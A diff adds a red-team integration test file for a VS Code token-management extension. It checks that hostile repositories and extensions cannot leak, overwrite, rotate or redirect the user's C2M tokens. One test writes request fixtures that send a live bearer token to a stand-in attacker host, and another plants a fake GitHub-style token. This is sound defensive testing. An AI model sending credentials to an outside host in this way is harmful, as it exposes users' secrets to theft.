@@ -1,0 +1,223 @@
+// Attacks of a security review, in the extension host against a sandbox started here: what a hostile repository
+// (its request files, .env files and settings) or a hostile extension (running our commands with chosen arguments)
+// must not get. Each test names the move; SECURITY.md lists them beside the promise they prove.
+import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import * as vscode from 'vscode';
+import type { C2mTestApi } from '../../client/src/integrations/extensionApi';
+import type { Sandbox } from '../../sandbox/src/types';
+import { ClientCommands, TOKEN_PLACEHOLDER } from '@shared/protocol/clientCommands';
+import { readEnvVariable } from '../../client/src/core/envFile';
+import type { EnvSyncOutcome } from '../../client/src/integrations/envSync';
+import { acceptTokenCompletion, c2mApi, config, eventually, profileFor, run, setProfiles, startTestSandbox, testClients, tokenOf, userProfiles } from '../support/inHost/extension';
+
+const PROFILE = 'rt';
+const PROFILE_NAME = `IT ${PROFILE}`;
+const CONSUMER_ID = 'c2m-test.c2m-consumer';
+/** A host that looks like the C2M API's and is the attacker's. */
+const LOOKALIKE = 'https://api.c2m.example.evil.test/v1';
+
+interface Consumer {
+  run(command: string, ...args: unknown[]): Promise<{ result?: unknown; error?: string }>;
+}
+
+function workspaceFile(name: string): string {
+  const folder = vscode.workspace.workspaceFolders?.[0];
+  assert.ok(folder, 'the integration run opens a workspace folder');
+  return path.join(folder.uri.fsPath, name);
+}
+
+describe('attacks: request files, env files, settings and commands', function () {
+  this.timeout(120_000);
+  let api: C2mTestApi;
+  let sandbox: Sandbox;
+  let consumer: Consumer;
+  let savedProfiles: ReturnType<typeof userProfiles>;
+  const files: string[] = [];
+
+  /** Consumes a scripted "no" the test left because nobody asked (a declined copy prompt takes it harmlessly). */
+  async function drainAnswers(): Promise<void> {
+    while (api.testing.pendingAnswers() > 0) await run('c2m.copyShortTermToken', PROFILE);
+  }
+
+  before(async () => {
+    api = await c2mApi();
+    savedProfiles = userProfiles();
+    const clients = testClients('redteam-client-secret-7d2c');
+    sandbox = await startTestSandbox(clients);
+    await setProfiles(api, [profileFor(PROFILE, sandbox.baseUrl, clients.secret, 'client_secret')], PROFILE);
+    await api.testing.engine.setClientSecret(PROFILE, clients.secret.clientSecret!);
+    assert.ok(await run('c2m.issueLongTermToken', PROFILE), 'long-term token issued');
+    const extension = vscode.extensions.getExtension<Consumer>(CONSUMER_ID);
+    assert.ok(extension, `${CONSUMER_ID} is loaded as a second extension under development`);
+    consumer = await extension.activate();
+  });
+
+  after(async () => {
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    const ws = vscode.ConfigurationTarget.Workspace;
+    for (const key of ['profiles', 'activeProfile']) await config().update(key, undefined, ws);
+    await config().update('envSync.enabled', undefined, vscode.ConfigurationTarget.Global);
+    await config().update('envSync.targets', undefined, vscode.ConfigurationTarget.Global);
+    await api.testing.engine.forgetProfile(PROFILE).catch(() => undefined);
+    await setProfiles(api, savedProfiles);
+    for (const f of files) fs.rmSync(f, { force: true, recursive: true });
+    await sandbox.stop();
+  });
+
+  it('[A12] a request file of the repository addressed to a lookalike host does not get the profile\'s token from the completion', async () => {
+    // What a cloned repository ships: requests to a host that is not the profile's (literal, and through a file
+    // variable, which is how REST Client and httpYac files usually name their host).
+    const file = workspaceFile('redteam-lookalike.http');
+    files.push(file);
+    fs.writeFileSync(file, `POST ${LOOKALIKE}/jobs\nAuthorization:\n\n###\n@host = ${LOOKALIKE}\nGET {{host}}/jobs\nAuthorization:\n`);
+    const doc = await vscode.workspace.openTextDocument(file);
+    await vscode.window.showTextDocument(doc);
+    const offered = async (line: number): Promise<string[]> => {
+      const list = await eventually(async () => {
+        const l = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', doc.uri, new vscode.Position(line, 'Authorization:'.length));
+        return l.items.length > 0 ? l : undefined;
+      }, 'the language server to answer completions');
+      return list.items.filter((i) => i.command?.command === ClientCommands.insertToken).map((i) => (typeof i.label === 'string' ? i.label : i.label.label));
+    };
+    const literal = await offered(1);
+    const viaVariable = await offered(6);
+    // Accepting the item as the user would (the editor active, the cursor where the suggestion leaves it).
+    if (literal.length > 0) await (await acceptTokenCompletion(doc, new vscode.Position(1, 'Authorization:'.length), PROFILE_NAME)).command;
+    const line = doc.lineAt(1).text;
+    await vscode.commands.executeCommand('workbench.action.files.revert');
+    assert.deepEqual(
+      { literal, viaVariable, line: line.includes(TOKEN_PLACEHOLDER) || line === 'Authorization:' ? 'no token' : 'TOKEN INSERTED' },
+      { literal: [], viaVariable: [], line: 'no token' },
+      `a token of "${PROFILE_NAME}" (base URL ${sandbox.baseUrl}) is offered for and inserted into a request to ${LOOKALIKE}`,
+    );
+  });
+
+  it('[A13] a request of the repository that sends the synced token ({{$dotenv C2M_ACCESS_TOKEN}}) or a token of ours to a lookalike host is flagged', async () => {
+    const live = await api.testing.getShortTermToken(PROFILE);
+    // The .env REST Client reads for this file holds the token, as the sync writes it.
+    const folder = workspaceFile('redteam-dest');
+    fs.mkdirSync(folder, { recursive: true });
+    fs.writeFileSync(path.join(folder, '.env'), `C2M_ACCESS_TOKEN=${live}\n`, { mode: 0o600 });
+    const file = path.join(folder, 'redteam-dotenv.http');
+    files.push(path.join(folder, '.env'), file);
+    // REST Client and httpYac send the .env value (which the sync keeps current) to whatever host the request names.
+    fs.writeFileSync(file, `GET ${LOOKALIKE}/jobs\nAuthorization: Bearer {{$dotenv C2M_ACCESS_TOKEN}}\n\n###\nGET ${LOOKALIKE}/jobs\nAuthorization: Bearer ${live}\n`);
+    const doc = await vscode.workspace.openTextDocument(file);
+    await vscode.window.showTextDocument(doc);
+    const flagged = (): vscode.Diagnostic[] => vscode.languages.getDiagnostics(doc.uri).filter((d) => /host|origin|base URL/i.test(d.message));
+    const found = await eventually(() => (flagged().length >= 2 ? flagged() : undefined), 'a diagnostic on each request to the lookalike host', 5_000)
+      .catch(() => flagged());
+    assert.equal(found.length, 2, `no warning that a C2M token of "${PROFILE_NAME}" (base URL ${sandbox.baseUrl}) goes to ${LOOKALIKE}; diagnostics: ${JSON.stringify(vscode.languages.getDiagnostics(doc.uri).map((d) => d.message))}`);
+  });
+
+  /** Syncs `variable` of `relative` (the user's own User-settings target), allowing the write to a file git does not ignore. */
+  async function syncInto(relative: string, variable: string): Promise<EnvSyncOutcome[]> {
+    api.testing.answer('Write to This File', 'Write to This File');
+    await config().update('envSync.targets', [{ file: relative, variable, profile: PROFILE }], vscode.ConfigurationTarget.Global);
+    await config().update('envSync.enabled', true, vscode.ConfigurationTarget.Global);
+    const outcomes = (await run<EnvSyncOutcome[]>('c2m.syncEnv')) ?? [];
+    await config().update('envSync.enabled', undefined, vscode.ConfigurationTarget.Global);
+    await config().update('envSync.targets', undefined, vscode.ConfigurationTarget.Global);
+    await drainAnswers();
+    return outcomes;
+  }
+
+  it('[A14] a token synced into an existing .env is not left readable by other local users', async () => {
+    const file = workspaceFile('redteam-perm.env');
+    files.push(file);
+    // What an editor's "New File" or `touch` makes under the usual umask 022.
+    fs.writeFileSync(file, '# my settings\nC2M_ACCESS_TOKEN=\n', { mode: 0o644 });
+    fs.chmodSync(file, 0o644);
+    const outcomes = await syncInto(path.basename(file), 'C2M_ACCESS_TOKEN');
+    const value = readEnvVariable(fs.readFileSync(file, 'utf8'), 'C2M_ACCESS_TOKEN');
+    assert.equal(value, await api.testing.getShortTermToken(PROFILE), `the sync wrote the token: ${JSON.stringify(outcomes)}`);
+    const mode = fs.statSync(file).mode & 0o777;
+    assert.equal(mode & 0o077, 0, `the short-term token sits in a file of mode ${mode.toString(8)}: every local user can read it`);
+  });
+
+  it('[A15] the sync does not silently overwrite another secret kept under the target variable', async () => {
+    const file = workspaceFile('redteam-other-secret.env');
+    files.push(file);
+    const theirs = 'ghp_R3dT3amN0tAC2mT0kenButAGitHubPat0123';
+    fs.writeFileSync(file, `API_TOKEN=${theirs}\n`, { mode: 0o600 });
+    // A question about replacing it gets "Write to This File", which is not "Replace It": the user keeps it.
+    const outcomes = await syncInto(path.basename(file), 'API_TOKEN');
+    const value = readEnvVariable(fs.readFileSync(file, 'utf8'), 'API_TOKEN');
+    assert.ok(value === theirs, `the GitHub token kept under API_TOKEN was replaced without a question: ${JSON.stringify(outcomes.map((o) => o.result))}`);
+  });
+
+  it('[A16] another extension cannot rotate the long-term token (which revokes the old one) without asking the user', async () => {
+    const before = tokenOf(api, PROFILE, 'long');
+    assert.ok(before?.tokenId, 'a live long-term token');
+    api.testing.answer(undefined); // if the user is asked, the user says no
+    const ran = await consumer.run('c2m.rotateLongTermToken', PROFILE);
+    const asked = api.testing.pendingAnswers() === 0;
+    await drainAnswers();
+    const after = tokenOf(api, PROFILE, 'long');
+    assert.deepEqual(
+      { asked, oldRevoked: sandbox.isRevoked(before.tokenId), sameToken: after?.tokenId === before.tokenId },
+      { asked: true, oldRevoked: false, sameToken: true },
+      `c2m.rotateLongTermToken run by ${CONSUMER_ID} gave ${JSON.stringify(ran.result ?? ran.error)}: the user's long-term token ${before.tokenId} was revoked unasked`,
+    );
+  });
+
+  it('[A17] another extension cannot switch the active profile (which the env sync, terminals and new sessions follow) without asking the user', async () => {
+    const other = { ...profileFor('rt-other', sandbox.baseUrl, testClients('redteam-other-secret-1a9f').secret, 'client_secret'), name: 'IT rt-other' };
+    await setProfiles(api, [...userProfiles(), other], PROFILE);
+    try {
+      api.testing.answer(undefined);
+      await consumer.run('c2m.switchProfile', 'rt-other');
+      const asked = api.testing.pendingAnswers() === 0;
+      await drainAnswers();
+      const active = api.tokens.profiles().find((p) => p.active)?.id;
+      assert.deepEqual({ asked, active }, { asked: true, active: PROFILE }, `${CONSUMER_ID} made "${active}" the active profile unasked`);
+    } finally {
+      await setProfiles(api, userProfiles().filter((p) => p.id !== 'rt-other'), PROFILE);
+    }
+  });
+
+  it('[A18] a trusted workspace\'s settings cannot silently turn on terminal token injection', async () => {
+    await api.testing.engine.getShortTermToken(PROFILE);
+    assert.notEqual(config().inspect<boolean>('terminal.injectToken')?.globalValue, true, 'the user never turned it on');
+    // What a repository's .vscode/settings.json says, written as the repository ships it (the setting is
+    // application-scoped, so VS Code's own update() refuses a workspace value: a file on disk does not ask).
+    const settingsFile = path.join(workspaceFile('.vscode'), 'settings.json');
+    const before = fs.existsSync(settingsFile) ? fs.readFileSync(settingsFile, 'utf8') : undefined;
+    const settings = before ? (JSON.parse(before) as Record<string, unknown>) : {};
+    fs.mkdirSync(path.dirname(settingsFile), { recursive: true });
+    fs.writeFileSync(settingsFile, JSON.stringify({ ...settings, 'c2m.terminal.injectToken': true, 'c2m.trace.server': 'off' }, null, 2));
+    try {
+      // The window-scoped marker beside it says VS Code has read the file.
+      await eventually(() => (config().inspect<string>('trace.server')?.workspaceValue === 'off' ? true : undefined), 'the workspace settings to be read');
+      const fingerprint = await api.testing.terminalTokenFingerprint();
+      assert.equal(fingerprint, undefined, `every new terminal gets the short-term token of "${PROFILE_NAME}" (fingerprint ${fingerprint ?? ''}) as C2M_ACCESS_TOKEN because the workspace said so; env sync asks for the same`);
+    } finally {
+      if (before === undefined) fs.rmSync(settingsFile, { force: true });
+      else fs.writeFileSync(settingsFile, before);
+      await eventually(() => (config().inspect<string>('trace.server')?.workspaceValue === undefined ? true : undefined), 'the workspace settings to be restored');
+      await api.testing.terminalTokenFingerprint();
+    }
+  });
+
+  it('[A19] a trusted workspace\'s settings cannot silently re-point a User profile by reusing its id', async () => {
+    const mine = userProfiles().find((p) => p.id === PROFILE);
+    assert.ok(mine);
+    // Same id, same name: the Tokens view, the status bar and the account label ("name (id)") look as before.
+    await config().update('profiles', [{ ...mine, baseUrl: LOOKALIKE }], vscode.ConfigurationTarget.Workspace);
+    try {
+      api.testing.syncProfiles();
+      const seen = api.tokens.profiles().find((p) => p.id === PROFILE);
+      const description = api.testing.profileDescription(PROFILE);
+      assert.deepEqual(
+        { baseUrl: seen?.baseUrl, name: seen?.name },
+        { baseUrl: mine.baseUrl, name: mine.name },
+        `the workspace turned the user's profile "${mine.name}" into one for ${seen?.baseUrl ?? ''}; the view says only "${description}"`,
+      );
+    } finally {
+      await config().update('profiles', undefined, vscode.ConfigurationTarget.Workspace);
+      api.testing.syncProfiles();
+    }
+  });
+});
